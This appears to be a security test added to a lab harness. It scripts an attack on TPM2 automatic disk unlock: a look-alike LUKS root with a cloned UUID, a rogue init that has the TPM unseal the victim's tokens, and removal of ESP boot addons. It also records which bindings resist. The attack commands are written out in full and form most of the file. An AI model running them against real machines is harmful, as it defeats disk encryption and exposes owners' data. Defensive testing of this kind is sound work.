@@ -1,0 +1,141 @@
+"""The victim's own boot chain opens a look-alike of its root, and whoever made that asks the TPM for the real key.
+
+One root has a token for each way to bind it, so that one start of the look-alike tells which of them keep the key.
+"""
+
+import pytest
+
+from harness.api import (
+    TPM_PIN,
+    Attacker,
+    ConsoleShell,
+    CryptenrollPin,
+    Deadline,
+    Enrolment,
+    Grant,
+    Rescue,
+    Sealed,
+    Unlock,
+)
+
+TOKENS = (
+    CryptenrollPin(phases=("enter-initrd",), name="pcr11"),
+    CryptenrollPin((0, 2, 3, 5, 7), name="raw-pcrs"),
+    CryptenrollPin(zero_pcr_ids=(15,), measures=True, name="pcr15"),
+    CryptenrollPin((7,), asks_pin=True, name="pin"),
+)
+"""In the order of their numbers in the header."""
+
+EACH_WAY = Enrolment("root-bound-each-way", TOKENS)
+
+HIS_PASSPHRASE = "look-alike"
+
+LOOK_ALIKE = (
+    "uuid=$(cryptsetup luksUUID /dev/vda4)"
+    " && cryptsetup luksUUID -q --uuid $(cat /proc/sys/kernel/random/uuid) /dev/vda4"
+    " && cryptsetup luksFormat -q --uuid $uuid --pbkdf pbkdf2 --pbkdf-force-iterations 1000"
+    " --luks2-metadata-size 16k --luks2-keyslots-size 512k /dev/vda3 -",
+    "cryptsetup open --key-file - /dev/vda3 look-alike",
+    "mkfs.ext4 -q /dev/mapper/look-alike && mkdir /run/root && mount /dev/mapper/look-alike /run/root",
+    "cd /run/root && mkdir -p dev etc mnt proc run sys tmp usr/bin usr/lib64 usr/lib/x86_64-linux-gnu/cryptsetup"
+    " && ln -s bin usr/sbin && ln -s usr/bin usr/sbin usr/lib usr/lib64 . && cp /etc/os-release etc"
+    " && cp /usr/bin/dash /usr/bin/cat /usr/bin/mount /usr/bin/umount /usr/sbin/cryptsetup usr/bin"
+    " && ln -s dash usr/bin/init",
+    "cd /run/root && libraries=/usr/lib/x86_64-linux-gnu && plugin=cryptsetup/libcryptsetup-token-systemd-tpm2.so"
+    " && cp $libraries/$plugin .$libraries/cryptsetup"
+    " && for part in esys mu rc sys tcti-device; do cp $libraries/libtss2-$part.so.0 .$libraries; done"
+    " && cp $libraries/libgcc_s.so.1 .$libraries"
+    " && ldd usr/bin/* .$libraries/$plugin .$libraries/libtss2-*"
+    " | sed -n 's,^[^/]*\\(/[^ ]*\\) (.*,\\1,p' | sort -u | xargs cp -L --parents -t . && df -h .",
+    "umount /run/root && cryptsetup close look-alike && sync",
+)
+"""The victim's root keeps its place under another UUID. A small root of his own, under the old one, takes that of
+/boot, which a UKI does not need: so nothing changes in the disk's partition table, which the firmware measures."""
+
+FORGET_THE_ARGUMENTS = (
+    "mkdir /run/esp && mount /dev/vda2 /run/esp && rm -rv /run/esp/EFI/BOOT/*.extra.d && umount /run/esp"
+)
+
+
+def make_look_alike(system: Rescue) -> None:
+    """Make it on the second disk, with a passphrase that he knows."""
+    for command in LOOK_ALIKE:
+        system.run(command, 120, stdin=HIS_PASSPHRASE.encode())
+
+
+def canary_by(console: ConsoleShell, token: int, pin: str = "") -> str | None:
+    """The canary of the victim's root, if the TPM unseals this token of its header; asked by the rogue init."""
+    deadline = Deadline.after(240)
+    pins = f"echo {pin} |" if pin else ""
+    by_token = f"{pins} cryptsetup open --token-only --token-id {token} /dev/nvme0n1p4 victim"
+    # No udev runs, so nobody but device-mapper itself makes the node.
+    console.run(f"export DM_DISABLE_UDEV=1; {by_token}", deadline, check=False)
+    said = console.run("mount -o ro /dev/mapper/victim /mnt && cat /mnt/unlock-lab-canary", deadline, check=False)
+    console.run("umount /mnt; cryptsetup close victim", deadline, check=False)
+    return next((line for line in said.splitlines() if len(line) == 32), None)
+
+
+def start_look_alike(console: ConsoleShell) -> None:
+    """Type his passphrase where the victim's initrd asks for that of root; his shell is what it starts then."""
+    console.wait_for(r"Please enter passphrase for disk [^\r\n]*:", Deadline.after(240))
+    console.send_line(HIS_PASSPHRASE)
+    console.wait_for("job control turned off", Deadline.after(240))
+    console.run(
+        "cd /sys/class/tpm/tpm0/pcr-sha256; for pcr in 7 11 12 15; do echo $pcr $(cat $pcr); done", Deadline.after(60)
+    )
+
+
+@pytest.mark.policy(EACH_WAY)
+@pytest.mark.image("debian-13-root")
+def test_a_seal_to_the_phase_of_the_initrd_opens_root(sealed: Sealed) -> None:
+    """PCR 11 as it is in the initrd, reckoned beforehand, opens root by itself: the control of what follows.
+
+    A raw PCR 11 taken from the running system would not: it has seen further phases by then.
+    Source: systemd-pcrphase.service(8).
+    """
+    outcome = sealed.boot()
+    assert outcome.unlock is Unlock.AUTO
+    assert outcome.token == [pin.name for pin in TOKENS].index("pcr11")
+
+
+@pytest.mark.policy(EACH_WAY)
+@pytest.mark.image("debian-13-root")
+@pytest.mark.attack(Grant.MACHINE)
+@pytest.mark.parametrize(
+    ("measured", "falls"),
+    [
+        pytest.param(True, {"raw-pcrs"}, id="measured"),
+        pytest.param(False, {"raw-pcrs", "pcr15"}, id="arguments-taken-away"),
+    ],
+)
+def test_rootfs_confusion(sealed: Sealed, attacker: Attacker, measured: bool, falls: set[str]) -> None:
+    """The root is replaced by a look-alike with the same UUID, which the genuine boot chain opens and starts.
+
+    Firmware, Secure Boot, boot image and command line are the victim's own, so that PCRs 0 to 7 are what they should
+    be. The initrd finds no token that fits, asks, and takes the thief's passphrase for his own volume. His init then
+    has the TPM unseal the victim's tokens, from the header that is still on the disk.
+
+    Granted: the machine. Extracted from a seal to raw PCRs. Cures: a PIN; PCR 11 of the initrd's phase (it was left
+    before his init was started); PCR 15, if the initrd measures the key of the volume that it opens, whichever that is
+    (``tpm2-measure-pcr=yes``), and before it starts anything from it. The last cure hangs on an option: here it is in
+    an unsigned addon on the ESP, and who takes that away (PCR 12 alone would tell) leaves PCR 15 as it was. So bind
+    PCR 12 too, or have the option in the signed image.
+    Source: oddlama, "Bypassing disk encryption on systems with automatic TPM2 unlock"; systemd#42748.
+    """
+    disk = attacker.disk()
+    with attacker.own_os(disk=disk) as system:
+        make_look_alike(system)
+        if not measured:
+            system.run(FORGET_THE_ARGUMENTS)
+    with attacker.console(disk=disk) as console:
+        start_look_alike(console)
+        loot = {pin.name: canary_by(console, token, "0000" * pin.asks_pin) for token, pin in enumerate(TOKENS)}
+        by_the_right_pin = canary_by(console, [pin.asks_pin for pin in TOKENS].index(True), TPM_PIN)
+    evidence = "console-console.log"
+    extracted = {
+        name
+        for name, canary in loot.items()
+        if attacker.prints(canary, guard=f"root-{name}", evidence=evidence).extracted
+    }
+    assert by_the_right_pin == sealed.canary, "the right PIN does not open it either"
+    assert extracted == falls
